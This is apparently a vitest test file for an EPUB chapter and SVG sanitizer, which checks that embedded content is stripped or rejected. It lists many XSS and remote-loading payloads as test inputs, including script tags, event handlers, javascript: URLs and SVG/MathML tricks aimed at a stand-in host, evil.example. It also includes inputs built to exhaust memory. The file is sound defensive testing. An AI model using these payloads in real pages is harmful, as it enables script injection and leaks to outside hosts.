import { describe, expect, it } from 'vitest';
import { chapterOf } from '../testing/an-epub.ts';
import { bodyOf, sanitizeChapter } from '../testing/sanitize-chapter.ts';

const svgOf = (inside: string): string =>
  sanitizeChapter(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`,
    'svg',
  ).markup;

describe('removed from a chapter', () => {
  it.each([
    '<script>steal()</script>',
    '<script src="http://evil.example/x.js"></script>',
    '<p onclick="steal()">x</p>',
    '<p ONMOUSEOVER="steal()">x</p>',
    '<img src="x" onerror="steal()"/>',
    '<iframe src="javascript:steal()"></iframe>',
    '<iframe srcdoc="&lt;script>steal()&lt;/script>"></iframe>',
    '<object data="evil.html"></object>',
    '<embed src="evil.swf"/>',
    '<form action="http://evil.example"><button formaction="http://evil.example">steal</button></form>',
    '<a href="javascript:steal()">x</a>',
    '<a href="data:text/html,steal()">x</a>',
    '<a href="two.xhtml" ping="http://evil.example">x</a>',
    '<img src="http://evil.example/x.png"/>',
    '<img srcset="http://evil.example/x.png 2x" src="a.png"/>',
    '<img attributionsrc="http://evil.example" src="a.png"/>',
    '<video poster="http://evil.example/x.png"><source src="http://evil.example/x.mp4"/></video>',
    '<table background="http://evil.example/x.png"><tr><td>x</td></tr></table>',
    '<p style="background: url(http://evil.example)">x</p>',
    '<style>@import "http://evil.example";</style>',
    '<link rel="stylesheet" href="http://evil.example/x.css"/>',
    '<link rel="preconnect" href="http://evil.example"/>',
    '<base href="http://evil.example/"/>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example"/>',
    '<template><script>steal()</script></template>',
    '<portal src="http://evil.example"></portal>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:steal()"><text>x</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:steal()"/><text>x</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,steal"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(http://evil.example/x#y)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject></svg>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:steal()">x</mi></math>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">steal()</script></annotation-xml></math>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>',
    '<?xml-stylesheet href="http://evil.example"?>',
    '<!-- steal() -->',
    '<p xml:base="http://evil.example/">x</p>',
  ])('%s', (body) => {
    expect(bodyOf(body)).not.toMatch(/evil|steal\(|javascript|<script|refresh|srcdoc/i);
  });

  it('reports removed content', () => {
    const { removed } = sanitizeChapter(
      chapterOf('<script>1</script><p onclick="2">x</p><a href="javascript:3">x</a><iframe src="x"/>'),
    );
    expect(removed).toEqual(['a script', 'an event handler', 'a link', 'an embedded file']);
  });

  it('removes names from pictures, because they would shadow document properties', () => {
    expect(bodyOf('<img name="body" src="a.png" alt=""/><a name="target">x</a>')).toBe(
      '<img src="a.png" alt=""/><a name="target" id="target">x</a>',
    );
  });

  it('replaces an embedded file by a notice, or by a picture when it is one', () => {
    expect(bodyOf('<iframe src="game.html"></iframe>')).toContain('role="note"');
    expect(bodyOf('<object data="a.svg" type="image/svg+xml">A crane</object>')).toBe(
      '<img src="a.svg" alt="A crane"/>',
    );
    expect(bodyOf('<object data="game.swf"><p>Instead</p></object>')).toBe('<p>Instead</p>');
  });

  it('is also removed from a chapter that is not well-formed', () => {
    const { markup, wasRepaired } = sanitizeChapter(
      '<html><body><p>One<p>Two<img src=a.png onerror=steal()><svg><script>steal()</script></svg><br></body>',
    );
    expect(wasRepaired).toBe(true);
    expect(markup).toContain('<p>One</p><p>Two<img src="a.png"/>');
    expect(markup).not.toContain('steal');
  });
});

describe('drawings', () => {
  it.each([
    '<script>steal()</script>',
    '<animate attributeName="xlink:href" values="javascript:steal()"/>',
    '<handler type="application/ecmascript">steal()</handler>',
    '<style>@import "http://evil.example";</style>',
    '<rect style="fill:url(http://evil.example#x)"/>',
    '<feImage xlink:href="http://evil.example"/>',
    '<use xlink:href="http://evil.example/a.svg#x"/>',
  ])('lose %s', (inside) => {
    expect(svgOf(inside)).not.toMatch(/evil|steal/);
  });

  it('keep drawing elements', () => {
    const inside =
      '<defs><g id="g"/></defs><use xlink:href="#g"/><animate attributeName="opacity" to="1"/><image xlink:href="data:image/png;base64,AAAA"/>';
    expect(svgOf(inside)).toContain(inside);
  });

  it('that are not XML become an empty picture', () => {
    expect(sanitizeChapter('GIF89a', 'svg').markup).toContain('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
});

describe('documents that would exhaust memory or stack', () => {
  it('are rejected when they are nested too deeply', () => {
    const deep = chapterOf('<div>'.repeat(2000) + '</div>'.repeat(2000));
    expect(() => sanitizeChapter(deep)).toThrow(
      expect.objectContaining({ code: 'epub_content_too_deep', entry: 'one.xhtml' }),
    );
    expect(() => sanitizeChapter('<div>'.repeat(2000))).toThrow(
      expect.objectContaining({ code: 'epub_content_too_deep' }),
    );
  });

  it('are read when only end tags are missing', () => {
    expect(sanitizeChapter(`<html><body>${'<p>x'.repeat(3000)}`).wasRepaired).toBe(true);
  });

  it('are rejected when they have too many attributes or prefixes', () => {
    const many = (count: number, name: string): string =>
      Array.from({ length: count }, (_, index) => `${name}${index}="x"`).join(' ');
    const rejection = expect.objectContaining({ code: 'epub_content_too_large' });
    expect(() => sanitizeChapter(chapterOf(`<p ${many(200, 'xmlns:n')}>x</p>`))).toThrow(rejection);
    expect(() => sanitizeChapter(chapterOf(`<p ${many(500, 'data-n')}>x</p>`.repeat(2100)))).toThrow(rejection);
  });

  it('are rejected when misnested formatting multiplies elements', () => {
    const formatting = Array.from({ length: 500 }, (_, index) => `<b id="${index}">`).join('');
    expect(() => sanitizeChapter(`<p>${formatting}${'</p><p>x'.repeat(20_000)}`)).toThrow(
      expect.objectContaining({ code: 'epub_content_too_large' }),
    );
  });
});

describe('style sheets of instructions', () => {
  const PROLOG = '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="book.css" media="screen"?>';
  const HOSTILE =
    '<?xml-stylesheet href="http://evil.example/a.css"?><?xml-stylesheet href="book.css" alternate="yes"?>';

  it('are linked in a chapter', () => {
    const page = chapterOf('<p>x</p>').replace(/^<\?xml.*?\?>/, PROLOG + HOSTILE);
    expect(sanitizeChapter(page).markup).toContain(
      '<head><link rel="stylesheet" type="text/css" href="book.css" media="screen"/><title>',
    );
    const headless = `${PROLOG}<!DOCTYPE html>${HOSTILE}<html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>`;
    expect(sanitizeChapter(headless).markup).toContain(
      '<head><link rel="stylesheet" type="text/css" href="book.css" media="screen"/></head>',
    );
  });

  it('are imported in a drawing', () => {
    const { markup } = sanitizeChapter(
      `${PROLOG}${HOSTILE}<svg xmlns="http://www.w3.org/2000/svg"><path/></svg>`,
      'svg',
    );
    expect(markup).toContain(
      '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url("book.css") screen;</style><path/></svg>',
    );
  });
});
